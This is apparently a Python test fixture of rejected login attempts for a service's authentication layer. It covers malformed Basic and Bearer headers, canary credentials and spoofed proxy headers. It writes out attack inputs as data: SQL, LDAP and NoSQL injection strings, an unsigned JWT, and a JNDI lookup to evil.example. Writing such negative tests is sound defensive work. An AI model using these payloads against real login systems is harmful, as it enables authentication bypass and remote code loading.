"""Credentials that are none, and headers that only a proxy may send."""

from __future__ import annotations

import base64
from typing import NamedTuple

NAME, PASSWORD, TOKEN = "ann", "c4nary-p\u00e4ssword", "c4nary-token-1234"


class Login(NamedTuple):
    """Headers as bytes: what a client sends is any."""

    title: str
    headers: list[tuple[bytes, bytes]]


def _encode(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_RIGHT = _encode(f"{NAME}:{PASSWORD}")
_TYPED = {
    "nothing": "",
    "only a name": NAME,
    "no password": f"{NAME}:",
    "no name": f":{PASSWORD}",
    "another name": f"bob:{PASSWORD}",
    "upper case": f"{NAME.upper()}:{PASSWORD}",
    "a blank before": f"{NAME}: {PASSWORD}",
    "a blank behind": f"{NAME}:{PASSWORD} ",
    "a line behind": f"{NAME}:{PASSWORD}\n",
    "a NUL behind": f"{NAME}:{PASSWORD}\0",
    "a NUL between": f"{NAME}\0:{PASSWORD}",
    "without accents": f"{NAME}:c4nary-password",
    "decomposed": f"{NAME}:c4nary-pa\u0308ssword",
    "a beginning": f"{NAME}:{PASSWORD[:-1]}",
    "twice": f"{NAME}:{PASSWORD}{PASSWORD}",
    "the token": f"{NAME}:{TOKEN}",
    "SQL": f"{NAME}:' OR '1'='1",
    "SQL in the name": f"{NAME}' --:x",
    "LDAP": "*)(uid=*))(|(uid=*:x",
    "JNDI": "${jndi:ldap://evil.example/a}:x",
    "defaults": "admin:admin",
    "long": f"{NAME}:{'x' * 20_000}",
    "None": "None:None",
    "JSON": '{"name":"ann","password":{"$ne":null}}',
}
_GIVEN = {
    "no scheme": _RIGHT,
    "no blank": f"Basic{_RIGHT}",
    "two blanks": f"Basic  {_RIGHT}",
    "a tab": f"Basic\t{_RIGHT}",
    "Digest": f'Digest username="{NAME}", realm="zklake"',
    "Negotiate": "Negotiate YIIBhwYGKwYBBQUCoIIBezCCAXeg",
    "NTLM": "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKALpHAAAADw==",
    "Basic with the token": f"Basic {TOKEN}",
    "Bearer with the password": f"Bearer {_RIGHT}",
    "Bearer of nothing": "Bearer ",
    "Bearer null": "Bearer null",
    "a token cut": f"Bearer {TOKEN[:-1]}",
    "a token and more": f"Bearer {TOKEN}x",
    "a token in quotes": f'Bearer "{TOKEN}"',
    "two tokens": f"Bearer {TOKEN}, Bearer {TOKEN}",
    "a token in upper case": f"Bearer {TOKEN.upper()}",
    "no base64": "Basic %%%%",
    "base64 of no UTF-8": "Basic //79/A==",
    "base64 without its end": f"Basic {_RIGHT[:-1]}",
    "base64 with a line": f"Basic {_RIGHT[:8]} {_RIGHT[8:]}",
    "base64 for URLs": "Basic -_-_-_",
    "an unsigned JWT": "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbm4iLCJyb2xlIjoiYW5hbHlzdCJ9.",
    "long": f"Bearer {'x' * 30_000}",
}
_ELSEWHERE: dict[str, list[tuple[str, str]]] = {
    "a cookie": [("cookie", f"token={TOKEN}; role=analyst")],
    "another header": [("x-api-key", TOKEN), ("x-auth-token", TOKEN)],
    "Proxy-Authorization": [("proxy-authorization", f"Basic {_RIGHT}")],
    "the proxy's header": [("x-user", NAME), ("x-role", "analyst")],
    "the proxy's, with a wrong secret": [("x-user", NAME), ("x-zklake-proxy-secret", "c4nary")],
    "the proxy's, with its secret": [
        ("x-user", NAME),
        ("x-zklake-proxy-secret", "the proxy's secret"),
    ],
    "the proxy's address": [
        ("x-user", NAME),
        ("x-forwarded-for", "10.1.2.3"),
        ("x-real-ip", "10.1.2.3"),
    ],
    "Forwarded": [("x-user", NAME), ("forwarded", "for=10.1.2.3")],
    "underscores": [("x_user", NAME), ("remote_user", NAME), ("remote-user", NAME)],
    "two headers": [("authorization", "Basic x"), ("authorization", f"Bearer {TOKEN}")],
}
ATTEMPTS: tuple[Login, ...] = (
    *(
        Login(title, [(b"authorization", f"Basic {_encode(text)}".encode())])
        for title, text in _TYPED.items()
    ),
    *(Login(title, [(b"authorization", text.encode())]) for title, text in _GIVEN.items()),
    *(
        Login(title, [(name.encode(), value.encode()) for name, value in given])
        for title, given in _ELSEWHERE.items()
    ),
)
